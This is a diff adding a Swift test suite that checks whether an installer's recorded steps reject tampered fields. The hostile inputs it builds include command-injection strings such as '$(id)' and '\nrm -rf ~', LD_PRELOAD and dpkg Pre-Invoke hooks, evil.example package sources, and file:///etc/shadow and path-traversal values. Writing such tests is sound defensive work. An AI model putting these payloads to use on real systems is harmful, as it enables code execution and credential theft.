@@ -1,0 +1,98 @@
+import Catalog
+import InstallModel
+import Testing
+
+/// A log's step as another host or an export hands it over: every value that leaves its place fails the recipes'
+/// grammars, whichever field of the step carries it (its action, adjustment, backups, rollbacks).
+@Suite struct RecordedStepCheckTests {
+    /// Real plans' steps, one per action kind the resolver makes (packages, repository, release, shell profile, verify).
+    private static func realSteps() throws -> [Step] {
+        let plans = try [["jq"], ["docker"], ["k9s"], ["black"]].map { try TestSupport.plan($0, on: "ubuntu-desktop") }
+        return plans.flatMap(\.steps)
+    }
+
+    /// Hostile variants of `step`, one field changed each, chosen by `generator`.
+    private static func hostile(_ step: Step, payload: String, _ generator: inout SplitMix64) -> [Step] {
+        var variants: [Step] = []
+        var changed = step
+        changed.backupBefore.append(["/etc/shadow", "~/.ssh/id_ed25519", "/root/" + payload][Int(generator.next() % 3)])
+        variants.append(changed)
+        changed = step
+        changed.rollback = [Step(id: "undo", label: "undo", action: .postInstall(CommandParameters(argv: ["sh", "-c", "touch /tmp/x" + payload])))]
+        variants.append(changed)
+        changed = step
+        let name = ["LD_PRELOAD", "PROMPT_COMMAND", "PATH", "BASH_ENV"][Int(generator.next() % 4)]
+        changed.adjustment = StepAdjustment(remediation: "r", environment: [name: "/tmp/evil" + payload])
+        variants.append(changed)
+        changed = step
+        changed.adjustment = StepAdjustment(remediation: "r", extraArguments: ["-oDPkg::Pre-Invoke::=touch /tmp/x" + payload])
+        variants.append(changed)
+        switch step.action {
+        case .packages(var parameters):
+            parameters.extraArguments = ["--index-url=http://evil.example" + payload]
+            changed = step
+            changed.action = .packages(parameters)
+            variants.append(changed)
+        case .repoSetup(var parameters):
+            var other = parameters
+            parameters.keyURL = "file:///etc/shadow" + payload
+            other.sourceEntry = "deb [trusted=yes] http://evil.example/ stable main" + payload
+            for action in [StepAction.repoSetup(parameters), .repoSetup(other)] {
+                changed = step
+                changed.action = action
+                variants.append(changed)
+            }
+        case .githubRelease(let parameters):
+            let edits: [(inout GitHubReleaseParameters) -> Void] = [
+                { $0.assetURL = "file:///etc/shadow" + payload }, { $0.checksumFileURL = "http://evil.example/sums" + payload },
+                { $0.binaryInArchive = "../../etc/shadow" + payload }, { $0.repository = "owner/name/../x" + payload },
+                { $0.version = "1.0" + payload },
+            ]
+            for edit in edits {
+                var edited = parameters
+                edit(&edited)
+                changed = step
+                changed.action = .githubRelease(edited)
+                variants.append(changed)
+            }
+        case .shellConfig(var parameters):
+            parameters.environment["PROMPT_COMMAND"] = "touch"
+            changed = step
+            changed.action = .shellConfig(parameters)
+            variants.append(changed)
+            parameters.environment = ["EDITOR_HOME": "x" + payload]
+            changed.action = .shellConfig(parameters)
+            variants.append(changed)
+        default: break
+        }
+        return variants
+    }
+
+    @Test func theStepsARealPlanMakesPass() throws {
+        for step in try Self.realSteps() {
+            #expect(step.problemAsRecorded == nil, "\(step.id): \(step.problemAsRecorded ?? "")")
+        }
+    }
+
+    @Test(arguments: [UInt64(1), 2, 3, 4, 5, 6])
+    func everyHostileFieldIsRefused(seed: UInt64) throws {
+        var generator = SplitMix64(seed: seed)
+        let payloads = ["; touch /tmp/x", "$(id)", "\nrm -rf ~", "`id`", " x"]
+        let payload = payloads[Int(generator.next() % UInt64(payloads.count))]
+        var count = 0
+        for step in try Self.realSteps() {
+            for variant in Self.hostile(step, payload: payload, &generator) {
+                count += 1
+                #expect(variant.problemAsRecorded != nil, "\(variant) passed")
+            }
+        }
+        #expect(count > 40)
+    }
+
+    @Test func otherStepsAreCheckedByTheirNames() {
+        let service = Step(id: "svc", label: "s", action: .service(ServiceParameters(name: "x;touch /tmp/x", action: .start)))
+        let notice = Step(id: "n", label: "n", action: .notification(NotificationParameters(message: "done\u{1B}]0;title\u{07}")))
+        let download = Step(id: "d", label: "d", action: .download(DownloadParameters(url: "file:///etc/shadow", destination: "/tmp/x")))
+        for step in [service, notice, download] { #expect(step.problemAsRecorded != nil, "\(step.id) passed") }
+    }
+}
